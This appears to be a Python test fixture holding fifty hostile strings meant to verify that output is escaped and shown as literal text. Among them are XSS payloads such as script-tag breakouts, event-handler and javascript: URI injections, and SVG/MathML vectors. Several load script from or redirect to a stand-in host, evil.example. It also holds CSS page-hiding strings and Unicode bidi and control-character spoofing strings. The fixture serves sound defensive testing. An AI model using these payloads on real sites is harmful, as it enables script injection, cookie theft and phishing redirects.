"""Fifty hostile texts. Each must be shown as the text that it is, wherever it comes from."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "${alert(1)}#{alert(1)}",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "` onclick=alert(1) x=`",
    "<form action=//evil.example><button>Accept</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)
SVGS = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
)
STYLES = (
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0;background:red">x</p>',
    "</style><script>alert(1)</script>",
    "red;}body{display:none",
)
CONTROLS = (
    "\u202egnp.exe txet",
    "\u2066hidden\u2069 \u2067order\u2069",
    "one\u2028two\u2029three",
    "nul\x01bell\x07esc\x1b[31mred",
    "\ufeffzero\u200bwidth\u200djoiner",
    "Z" + "\u0300\u0301\u0302\u0303\u0489" * 60 + "algo",
    "\U0001f6a2\U0001f1f0\U0001f1ff 𝔲𝔫𝔦 ﷽",
    "A" * 600,
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *SVGS, *STYLES, *CONTROLS)
assert len(PAYLOADS) == 50
